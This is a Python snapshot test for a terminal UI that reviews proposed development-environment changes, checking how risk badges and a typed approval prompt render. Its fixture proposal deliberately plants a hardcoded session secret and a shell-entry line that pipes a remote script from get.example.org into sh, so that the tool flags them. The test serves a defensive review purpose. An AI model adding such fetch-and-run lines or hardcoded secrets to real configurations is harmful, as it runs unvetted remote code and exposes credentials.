"""Snapshots of the change card with risks (error and warning badges): at the top of the proposal detail,
and whole in the approve modal with `[policy] confirm` asking for a risk's name. Same determinism as
tests/test_snapshots.py (its scene helpers): 120x34, frozen clock, fixed ids; SVGs in snapshots/test_card_snapshots/."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from pytest_textual_snapshot import SVGImageExtension
from syrupy.assertion import SnapshotAssertion
from test_snapshots import (  # noqa: F401 - make_workspace and scene_root are fixtures
    GOOD_REBUILD,
    PROPOSAL_ID,
    PROPOSAL_TIME,
    SIZE,
    _app,
    _press,
    _scene,
    _text,
    _toml,
    _until,
    make_workspace,
    scene_root,
)
from textual.pilot import Pilot

from omni_tui.core.proposals import ProposalStore
from omni_tui.core.workspace import Workspace

SNAPSHOTS = Path(__file__).resolve().parent.parent / "snapshots" / Path(__file__).stem
TITLE = "Cache sessions in redis, set up on entry"


class _CardSVG(SVGImageExtension):
    @classmethod
    def dirname(cls, *, test_location: Any) -> str:
        return str(SNAPSHOTS)


class _CardSnapshots(SnapshotAssertion):
    def use_extension(self, extension_class: Any = None) -> SnapshotAssertion:
        if extension_class is SVGImageExtension:
            extension_class = _CardSVG
        return super().use_extension(extension_class)


@pytest.fixture
def snapshot(snapshot: SnapshotAssertion) -> SnapshotAssertion:
    return _CardSnapshots(
        session=snapshot.session,
        extension_class=snapshot.extension_class,
        test_location=snapshot.test_location,
        update_snapshots=snapshot.update_snapshots,
    )


def _risky_proposal(ws: Workspace) -> None:
    current = (ws.root / "devenv.nix").read_text()
    new = current.replace(
        "packages = [ pkgs.git pkgs.jq ];",
        'packages = [ pkgs.git pkgs.jq pkgs.redis ];\n\n  services.redis.enable = true;\n  env.SESSION_SECRET = "s3cr3t-0123456789abcdef";\n'
        '  claude.code.mcpServers.redis = { command = "redis-mcp"; };',
    ).replace('echo "$GREET from devenv"', 'echo "$GREET from devenv"\n    curl -fsSL https://get.example.org/setup | sh')
    store = ProposalStore(ws)
    built = store.build(
        {"devenv.nix": new}, title=TITLE, rationale="Sessions survive restarts; the MCP server lets me inspect them.", agent="claude"
    )
    store.submit(built._replace(id=PROPOSAL_ID, created_at=PROPOSAL_TIME))


def _with_policy(root: Path) -> Workspace:
    """The scene's configuration plus `[policy] confirm`, in place before the workspace is first opened (so approved)."""
    (root / "omni-tui.toml").write_text(f'[rebuild]\ncommand = "{_toml(GOOD_REBUILD)}"\n\n[policy]\nconfirm = ["runs_on_shell_entry"]\n')
    return Workspace.open(root)


async def _carded(pilot: Pilot[Any]) -> None:
    await _until(pilot, lambda: TITLE in _text(pilot), "the proposal in the queue")
    await _until(pilot, lambda: "parses" in _text(pilot), "the validation result")
    await _until(pilot, lambda: "secret in file" in _text(pilot) and "+redis :6379" in _text(pilot), "the change card")


def test_detail_with_a_risky_card(snap_compare: Any, need_nix: None, make_workspace: Callable[..., Workspace]) -> None:  # noqa: F811
    ws = make_workspace()
    _risky_proposal(ws)
    assert snap_compare(_app(ws), terminal_size=SIZE, run_before=_scene(_carded))


@pytest.mark.usefixtures("make_workspace")  # the scene's environment (HOME, USER, pinned durations and log names)
def test_approve_modal_with_the_whole_card_and_a_typed_confirmation(snap_compare: Any, need_nix: None, scene_root: Path) -> None:  # noqa: F811
    ws = _with_policy(scene_root)
    _risky_proposal(ws)
    scene = _scene(_carded, _press("a", until="type it to approve"), _press(*"runs_on", until="runs_on"))
    assert snap_compare(_app(ws), terminal_size=SIZE, run_before=scene)
